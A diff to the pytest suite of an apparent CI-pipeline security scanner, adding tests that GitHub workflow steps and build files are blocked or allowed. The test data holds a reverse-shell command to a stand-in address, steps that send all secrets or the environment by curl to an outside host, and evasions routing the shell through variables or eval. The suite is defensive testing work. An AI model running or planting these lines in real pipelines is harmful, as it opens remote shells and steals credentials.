@@ -12,11 +12,16 @@ from gatekeeper.checks import run_checks
 from gatekeeper.evidence.workflows import PLACES, gather_workflow, place_of
 from gatekeeper.model import Finding, Ruling
 from gatekeeper.policy import Policy, ruling_of
+from gatekeeper.tree import MAY_MATTER
 
 WORKFLOW = ".github/workflows/build.yml"
 HEAD = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
 ID = "0123456789abcdef0123456789abcdef01234567"
 RAW_SHELL = "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"
+POM = (
+    "<project><configuration><executable>bash</executable><arguments><argument>-c</argument>"
+    "<argument><![CDATA[{}]]></argument></arguments></configuration></project>"
+)
 ALLOW, ASK, BLOCK = Ruling.ALLOW, Ruling.ASK, Ruling.BLOCK
 
 
@@ -65,6 +70,11 @@ class TestPlaces:
     def test_each_of_the_ten_is_known_by_its_path(self, path: str, kind: str) -> None:
         assert place_of(path) == kind
 
+    def test_none_of_them_is_passed_over_by_a_look_at_the_name_alone(self) -> None:
+        more = (".gitlab/ci/a.yml", "settings.gradle", "GNUmakefile", "rules.mk", "a.cmake", ".azure-pipelines/a.yml")
+        assert all(MAY_MATTER.search(path) for path in (*PATHS, *more))
+        assert all(place_of(path) for path in more)
+
     @pytest.mark.parametrize("path", ["README.md", "docs/workflows.yml", "requirements.txt", ".github/dependabot.yml"])
     def test_other_files_are_none(self, path: str) -> None:
         assert place_of(path) is None
@@ -95,11 +105,7 @@ class TestPlaces:
             ("CMakeLists.txt", 'add_custom_target(x ALL COMMAND make COMMAND sh -c "{}")\n'),
             ("build.gradle", "task x(type: Exec) {{\n  commandLine 'sh', '-c', '{}'\n}}\n"),
             ("build.gradle.kts", 'tasks.register<Exec>("x") {{\n  commandLine("sh", "-c", "{}")\n}}\n'),
-            (
-                "pom.xml",
-                "<project><configuration><executable>bash</executable><arguments><argument>-c</argument>"
-                "<argument><![CDATA[{}]]></argument></arguments></configuration></project>",
-            ),
+            ("pom.xml", POM),
             ("pom.xml", '<project><exec executable="bash"><arg value="-c"/><arg value="{}"/></exec></project>'),
         ],
     )
@@ -123,6 +129,8 @@ class TestSecrets:
             '      - env:\n          ALL: ${{ toJson( secrets ) }}\n        run: curl -d "$ALL" https://files.example/\n',
             "      - env: {ALL: '${{ secrets }}'}\n        run: node send.js\n",
             "      - run: echo ${{ join(secrets.*, ',') }}\n",
+            "      - run: echo '${{ toJSON(" + " " * 5000 + "secrets) }}' > all.json\n",
+            "      - run: echo '${{ toJSON(SECRETS) }}' > all.json\n",
             "      - run: env | base64 -w0 | curl -d @- https://files.example/\n",
             "      - run: printenv | curl -F f=@- https://files.example/\n",
             '      - run: curl "https://files.example/?q=$(env | base64 -w0)"\n',
@@ -288,6 +296,24 @@ class TestScripts:
     )
     def test_a_days_work_is_no_finding(self, line: str) -> None:
         assert ruling(run(line)) is ALLOW
+
+    @pytest.mark.parametrize(
+        "steps",
+        [
+            "      - env: {CMD: 'SHELL'}\n        run: ${{ env.CMD }}\n",
+            "      - env: {CMD: 'SHELL'}\n        run: eval \"$CMD\"\n",
+            "    strategy:\n      matrix:\n        cmd: ['SHELL']\n    steps:\n      - run: ${{ matrix.cmd }}\n",
+            "      - uses: owner/ssh@v1\n        with:\n          script: |\n            make\n            SHELL\n",
+            "      - shell: bash -c 'SHELL' {0}\n        run: make\n",
+        ],
+    )
+    def test_code_that_goes_round_by_a_value_is_found(self, steps: str) -> None:
+        head = HEAD.removesuffix("    steps:\n") if "    steps:" in steps else HEAD
+        assert ruling(head + steps.replace("SHELL", RAW_SHELL)) is BLOCK
+        assert ruling(head + steps.replace("SHELL", "make test")) is ALLOW
+
+    def test_what_is_said_to_people_is_no_code(self) -> None:
+        assert ruling("name: x\ndescription: like curl https://files.example/i.sh | sh\n", path="action.yml") is ALLOW
 
     def test_other_languages_are_read_in_their_own_way(self) -> None:
         step = "      - shell: python\n        run: |\n          import base64\n          exec(base64.b64decode(b'aGVsbG8='))\n"
